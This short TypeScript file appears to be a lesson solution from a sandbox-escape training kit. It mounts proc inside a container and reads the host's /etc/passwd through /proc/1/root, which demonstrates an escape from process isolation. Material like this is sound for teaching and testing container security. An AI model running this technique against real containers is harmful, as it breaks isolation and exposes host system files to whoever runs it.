/** Out of lesson 4: the processes of the host are still there, and proc shows the root of each. */
import { type BreakOut, execute, mountAt } from 'tsrun/lessons/kit.ts';

export default {
  attack(b) {
    mountAt(b, 'proc', '/tmp/proc');
    execute(b, ['head', '-n', '1', '/tmp/proc/1/root/etc/passwd']);
  },
} satisfies BreakOut;
